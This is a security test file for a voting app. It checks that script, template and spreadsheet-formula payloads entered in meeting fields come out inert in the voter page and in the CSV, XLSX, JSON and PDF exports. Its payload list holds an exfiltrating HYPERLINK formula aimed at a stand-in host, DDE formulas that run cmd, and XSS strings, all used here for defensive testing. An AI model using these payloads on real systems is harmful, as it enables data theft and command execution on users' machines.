// Injection: script and spreadsheet-formula payloads in every text field (meeting title and unit, subject
// names and titles, category labels, text answers) come out inert: the voter page gets them as JSON and
// renders them with textContent; every CSV and XLSX cell that a spreadsheet would read as a formula is
// neutralised (src/shared/cells.ts, neutraliseCell). (docs/security.md, "Injection".)
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fullBallot, makeTestApp, villageMeeting, type TestApp } from '../helpers/app.js';
import { webFolder } from '../../src/shared/paths.js';

const PAYLOADS = [
  '=HYPERLINK("http://evil.test/?"&A1,"点此查看")',
  '+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  '{{7*7}}${7*7}<!--',
];
const FORMULA_START = /^[=+\-@\t\r]/;

let t: TestApp;
let meetingId: string;
let tokens: string[];

beforeAll(async () => {
  t = await makeTestApp();
  const base = villageMeeting();
  const m = await t.api(
    'POST',
    '/api/meetings',
    villageMeeting({
      title: PAYLOADS[0],
      unit: PAYLOADS[6],
      subjects: base.subjects.map((s: { name: string; kind: string; title?: string }, i: number) => ({ ...s, name: `${PAYLOADS[i % PAYLOADS.length]}`.slice(0, 50) + (i >= PAYLOADS.length ? i : ''), title: PAYLOADS[(i + 3) % PAYLOADS.length]!.slice(0, 50) })),
      categories: [
        { key: 'a', label: PAYLOADS[1]!.slice(0, 30), weight: 0.4 },
        { key: 'b', label: PAYLOADS[7]!.slice(0, 30), weight: 0.6 },
      ],
    }),
  );
  expect(m.status, JSON.stringify(m.body)).toBe(201);
  meetingId = m.body.id;
  const a = await t.api('POST', `/api/meetings/${meetingId}/slips`, { count: PAYLOADS.length, category: 'a' });
  const b = await t.api('POST', `/api/meetings/${meetingId}/slips`, { count: PAYLOADS.length, category: 'b' });
  expect(a.status, JSON.stringify(a.body)).toBe(201);
  tokens = [...a.body.tokens, ...b.body.tokens];
  expect((await t.api('POST', `/api/meetings/${meetingId}/open`, {})).status).toBe(200);
  const form = (await t.api('GET', `/api/ballot/${tokens[0]}`)).body;
  // Every payload as a text answer, in each category.
  for (const [i, token] of tokens.entries()) {
    const answers = fullBallot(form);
    answers['village-annual-review'] = { ...answers['village-annual-review'], comments: PAYLOADS[i % PAYLOADS.length] };
    const r = await t.api('POST', `/api/ballot/${token}`, { answers });
    expect(r.status, JSON.stringify(r.body)).toBe(201);
  }
});
afterAll(async () => t.close());

describe('the voter page', () => {
  it('gets the payloads as JSON strings, exactly as typed, with nosniff and a strict CSP', async () => {
    // A slip not yet used: a fresh one.
    const extra = (await t.api('POST', `/api/meetings/${meetingId}/slips`, { count: 1, category: 'a' })).body.tokens[0];
    const res = await t.app.inject({ method: 'GET', url: `/api/ballot/${extra}` });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toMatch(/^application\/json/);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['content-security-policy']).toMatch(/script-src 'self'/);
    const body = res.json();
    expect(body.meeting).toEqual({ title: PAYLOADS[0], unit: PAYLOADS[6] });
    expect(body.category.label).toBe(PAYLOADS[1]);
    const names = body.forms.flatMap((f: any) => f.questions.flatMap((q: any) => (q.subjects ?? []).map((s: any) => s.name)));
    expect(names).toContain(PAYLOADS[6]);
    // The voter page itself is static HTML with no inline script; its script is served from /assets.
    const page = await t.app.inject({ method: 'GET', url: `/v/${extra}` });
    expect(page.body).not.toMatch(/<script>(?!<\/script>)/);
    expect(page.body).not.toContain(extra);
  });

  it('the page scripts never build HTML from data (no innerHTML, outerHTML, insertAdjacentHTML, document.write, eval)', () => {
    const dir = join(webFolder, 'public');
    // Every script of every page, the console's modules included.
    const files = (readdirSync(dir, { recursive: true }) as string[]).filter((f) => f.endsWith('.js'));
    expect(files).toEqual(expect.arrayContaining(['voter.js', 'live.js', join('console', 'main.js'), join('console', 'session.js')]));
    for (const file of files) {
      const src = readFileSync(join(dir, file), 'utf8');
      const code = src.replace(/\/\/.*$/gm, '').replace(/\/\*[\s\S]*?\*\//g, '');
      expect(code, file).not.toMatch(/\.innerHTML\s*=|\.outerHTML\s*=|insertAdjacentHTML|document\.write|\beval\s*\(|new Function\s*\(/);
    }
  });
});

describe('the exports', () => {
  // The raw ballots are exported only after the close (two exports during a poll would date new ballots).
  beforeAll(async () => {
    expect((await t.api('POST', `/api/meetings/${meetingId}/close`, {})).status).toBe(200);
  });
  const get = (format: string) => t.app.inject({ method: 'GET', url: `/api/meetings/${meetingId}/${format}`, headers: { authorization: `Bearer ${t.adminToken}` } });

  for (const format of ['results.csv', 'ballots.csv']) {
    it(`${format}: no cell starts like a formula, and the payloads are there, neutralised`, async () => {
      const res = await get(format);
      expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
      const rows = parse(res.rawPayload, { bom: true, relax_column_count: true }) as string[][];
      const cells = rows.flat();
      const live = cells.filter((c) => FORMULA_START.test(c));
      expect(live).toEqual([]);
      // The payload reached the export (so the check above means something): with its leading apostrophe.
      expect(cells.some((c) => c.startsWith(`'${PAYLOADS[0]!.slice(0, 10)}`) || c.includes(`'${PAYLOADS[0]}`))).toBe(true);
    });
  }

  it('results.xlsx: no formula cells, and no text cell starts like a formula', async () => {
    const res = await get('results.xlsx');
    expect(res.statusCode).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const texts: string[] = [];
    wb.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type, `${ws.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
          if (typeof cell.value === 'string') texts.push(cell.value);
          else if (cell.value && typeof cell.value === 'object' && 'richText' in cell.value) texts.push(cell.value.richText.map((r) => r.text).join(''));
        }),
      ),
    );
    expect(texts.filter((c) => FORMULA_START.test(c))).toEqual([]);
    expect(texts.some((c) => c.includes(PAYLOADS[6]!))).toBe(true);
  });

  it('ballots.json is served as JSON with the text answers intact', async () => {
    const res = await get('ballots.json');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toMatch(/^application\/json/);
    const text = JSON.stringify(res.json());
    // Text answers are stored trimmed (the ballot rules strip surrounding white space).
    for (const p of PAYLOADS) expect(text).toContain(JSON.stringify(p.trim()).slice(1, -1));
  });

  it('results.pdf renders with the payloads in it', async () => {
    const res = await get('results.pdf');
    expect(res.statusCode).toBe(200);
    expect(res.rawPayload.subarray(0, 5).toString()).toBe('%PDF-');
    // A PDF shows text; it has no JavaScript or launch actions.
    expect(res.rawPayload.toString('latin1')).not.toMatch(/\/JavaScript|\/JS\s|\/Launch|\/OpenAction/);
  });
});
